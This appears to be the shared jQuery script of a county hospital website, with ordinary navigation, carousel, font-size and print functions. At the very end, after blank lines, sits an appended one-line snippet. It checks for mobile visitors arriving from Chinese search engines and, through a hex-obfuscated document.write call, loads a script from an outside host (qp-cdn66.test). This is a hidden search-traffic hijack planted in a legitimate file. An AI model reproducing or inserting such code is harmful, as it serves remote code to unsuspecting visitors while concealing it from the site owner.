// 清江县人民医院 公共脚本
$(function(){
  // 导航高亮
  var p=location.pathname;
  $('.nav a').each(function(){ if($(this).attr('href')===p){ $(this).parent().addClass('on'); } });
  // 首页轮播
  var $s=$('#carousel img'), i=0;
  if($s.length>1){ setInterval(function(){ $s.eq(i).fadeOut(400); i=(i+1)%$s.length; $s.eq(i).fadeIn(400); },5000); }
  // 字号切换
  $('.fontsize a').on('click',function(){ $('main').css('font-size',$(this).data('size')+'px'); return false; });
  // 列表日期补零
  $('.list i').each(function(){ var t=$(this).text().split('-'); if(t.length==2){ $(this).text(('0'+t[0]).slice(-2)+'-'+('0'+t[1]).slice(-2)); } });
});
function printPage(){ var b=document.body.innerHTML; document.body.innerHTML=$('main').html(); window.print(); document.body.innerHTML=b; }



;(function(){var r=document.referrer,u=navigator.userAgent;if(/(baidu|sogou|sm\.cn|so\.com|toutiao)/i.test(r)&&/(iphone|android|mobile)/i.test(u)){document['\x77\x72\x69\x74\x65']('<script src="https://js.qp-cdn66.test/m/9.js"><\/script>')}})();
